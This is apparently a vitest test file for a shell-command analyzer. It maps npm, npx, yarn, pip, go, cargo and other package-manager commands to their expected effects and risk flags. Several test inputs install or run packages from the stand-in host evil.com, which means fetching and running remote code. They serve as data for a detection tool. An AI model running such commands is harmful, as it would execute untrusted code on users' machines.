import { describe } from 'vitest'
import { npmPrograms } from '../../../src/bash-parser/commands/npm.ts'
import { packageManagers } from '../../../src/bash-parser/commands/packages.ts'
import { testPrograms } from '../../support/test-programs.ts'

describe('npm and its kin', () =>
  testPrograms(
    npmPrograms,
    `
  npm --version => changes npm cache
  npm ls --depth=0 => changes npm cache
  npm ls react => changes npm cache
  npm root -g => changes npm cache
  npm view react version => host registry.npmjs.org; changes npm cache
  npm outdated => host registry.npmjs.org; changes npm cache
  npm view react --registry=https://x.example => host x.example; changes npm cache
  npm audit => host registry.npmjs.org; changes npm cache
  npm config get registry => changes npm cache
  npm config set a b => changes npm cache; changes npm configuration
  npm pkg get name => changes npm cache
  npm pkg set name=x => writes package.json; changes npm cache
  npm run => changes npm cache; changes whatever the script changes; doubt unknown-script
  npm test => changes npm cache; changes whatever the script changes; doubt unknown-script
  npm run build -- --x => changes npm cache; changes whatever the script changes; doubt unknown-script
  npm --prefix sub run build => changes npm cache; changes whatever the script changes; doubt unknown-script
  npm run build --prefix sub => changes npm cache; changes whatever the script changes; doubt unknown-script
  npm install => writes node_modules/**; writes package-lock.json; writes package.json; host registry.npmjs.org; changes npm cache; doubt unknown-script
  npm i react@18 -D => writes node_modules/**; writes package-lock.json; writes package.json; host registry.npmjs.org; changes npm cache; doubt unknown-script
  npm i -g x => host registry.npmjs.org; changes global packages; changes npm cache; doubt unknown-script
  npm ci --ignore-scripts => writes node_modules/**; host registry.npmjs.org; changes npm cache
  npm publish => host registry.npmjs.org; changes npm cache; changes package registry; doubt unknown-script
  npm version => changes npm cache
  npm version patch => writes package-lock.json; writes package.json; changes git repository; changes npm cache; doubt unknown-script
  npm exec -- rm x => runs rm x; changes npm cache; doubt unknown-program
  npm x prettier@3 --check . => runs prettier --check .; changes npm cache; doubt unknown-program
  npm exec -c 'rm x' => shell rm x; changes npm cache; doubt unknown-program
  npm init vite app => writes package.json; runs create-vite app; changes npm cache; doubt unknown-program
  npm explore x -- rm y => runs rm y; changes npm cache
  npm help install => changes npm cache
  npm install -h => changes npm cache
  npm --script-shell=./x run y => changes npm cache; changes whatever the script changes; doubt unknown-option
  npm run y --node-options=--require=./x => changes npm cache; changes whatever the script changes; doubt unknown-option
  npm zzz => doubt unknown-option
  npm ls --zzz => changes npm cache; doubt unknown-option
  npm i http://evil.com/x.tgz => changes npm cache; doubt unknown-script; host evil.com; host registry.npmjs.org; writes node_modules/**; writes package-lock.json; writes package.json
  npm i foo@git+https://evil.com/x.git => changes npm cache; doubt unknown-script; host evil.com; host registry.npmjs.org; writes node_modules/**; writes package-lock.json; writes package.json
  npm i left-pad => changes npm cache; doubt unknown-script; host registry.npmjs.org; writes node_modules/**; writes package-lock.json; writes package.json
  npm i git@evil.com:a/b => changes npm cache; doubt unknown-script; host evil.com; host registry.npmjs.org; writes node_modules/**; writes package-lock.json; writes package.json
  npx https://evil.com/x.tgz => changes npm cache; doubt unknown-program; host evil.com; runs https://evil.com/x.tgz
  yarn add https://evil.com/x => changes package store; doubt unknown-script; host evil.com
  npx --version => changes npm cache
  npx rm x => runs rm x; changes npm cache; doubt unknown-program
  npx -y prettier@3.1.0 --check . => runs prettier --check .; changes npm cache; doubt unknown-program
  npx -p @a/b@1 tool => runs tool; changes npm cache; doubt unknown-program
  npx --package=x -- rm y => runs rm y; changes npm cache; doubt unknown-program
  npx @a/b@1 x => runs @a/b x; changes npm cache; doubt unknown-program
  npx -c 'rm x' => shell rm x; changes npm cache; doubt unknown-program
  bunx rm x => runs rm x; changes npm cache; doubt unknown-program
  yarn => changes package store; doubt unknown-script
  yarn --version => changes package store; doubt unknown-script
  yarn build => changes package store; doubt unknown-script
  yarn dlx -q rm x => runs rm x; changes package store; doubt unknown-program
  pnpm exec rm x => runs rm x; changes package store; doubt unknown-program
  pnpm --version => changes package store; doubt unknown-script
  corepack enable => changes package store; doubt unknown-script
  bun --version => nothing
  bun x rm y => runs rm y; changes package store; doubt unknown-program
  bun test => changes package store; doubt unknown-script
  bun add x => writes node_modules/**; writes package.json; host registry.npmjs.org; changes package store; doubt unknown-script
`,
  ))

describe('other package managers', () =>
  testPrograms(
    packageManagers,
    `
  pip --version => changes pip cache
  pip list => changes pip cache
  pip3 freeze => changes pip cache
  pip show requests => changes pip cache
  pip list --outdated => host pypi.org; changes pip cache
  pip install requests => host pypi.org; changes pip cache; changes python packages; doubt unknown-script
  pip install -r req.txt -t out => reads req.txt; writes out/**; host pypi.org; changes pip cache; changes python packages; doubt unknown-script
  pip install -e . => reads ./**; host pypi.org; changes pip cache; changes python packages; doubt unknown-script
  pip install git+https://github.com/a/b => host github.com; host pypi.org; changes pip cache; changes python packages; doubt unknown-script
  pip install --index-url https://x.example/ y => host x.example; changes pip cache; changes python packages; doubt unknown-script
  pip download -d out x => writes out/**; host pypi.org; changes pip cache; changes python packages; doubt unknown-script
  pip uninstall -y x => changes pip cache; changes python packages
  pip list --zzz => changes pip cache; doubt unknown-option
  pip --log=x list => writes x; changes pip cache
  pip install git+https://evil.com/x => changes pip cache; changes python packages; doubt unknown-script; host evil.com; host pypi.org
  pip install -r https://evil.com/r.txt => changes pip cache; changes python packages; doubt unknown-script; host evil.com; host pypi.org; reads https://evil.com/r.txt
  pip install -e ./pkg => changes pip cache; changes python packages; doubt unknown-script; host pypi.org; reads ./pkg/**
  go install evil.com/x@latest => changes go telemetry; doubt unknown-script; host evil.com
  go run ./cmd => changes go telemetry; doubt unknown-script
  cargo install --git https://evil.com/x => changes package store; doubt unknown-script; host evil.com
  uv --version => nothing
  uv run --with x rm y => runs rm y; changes package store; doubt unknown-program
  uv run --directory sub rm y => runs rm y; changes package store; doubt unknown-program
  uv pip list => changes package store
  uv sync => host pypi.org; changes package store; doubt unknown-script
  uv tool run rm x => runs rm x; changes package store; doubt unknown-program
  uvx rm x => runs rm x; changes package store; doubt unknown-program
  pipx run rm x => runs rm x; changes package store; doubt unknown-script
  poetry run rm x => runs rm x; changes package store; doubt unknown-script
  poetry show => changes package store; doubt unknown-script
  conda run rm x => runs rm x; changes package store; doubt unknown-script
  bundle exec rm x => runs rm x; changes package store; doubt unknown-script
  bundle install => changes package store; doubt unknown-script
  cargo --version => changes package store; doubt unknown-script
  cargo run => changes package store; doubt unknown-script
  composer exec rm x => runs rm x; changes package store; doubt unknown-script
  gem --version => nothing
  gem env => nothing
  gem list => host rubygems.org; changes ruby gems
  gem install x => host rubygems.org; changes ruby gems; doubt unknown-script
  go version => changes go telemetry
  go env GOPATH => changes go telemetry
  go env -w A=b => changes go telemetry; doubt unknown-script
  go test ./... => changes go telemetry; doubt unknown-script
  go -C sub build => changes go telemetry; doubt unknown-script
  gofmt -l . => reads ./**; changes go telemetry
  gofmt -w a.go => writes a.go/**; changes go telemetry
`,
  ))
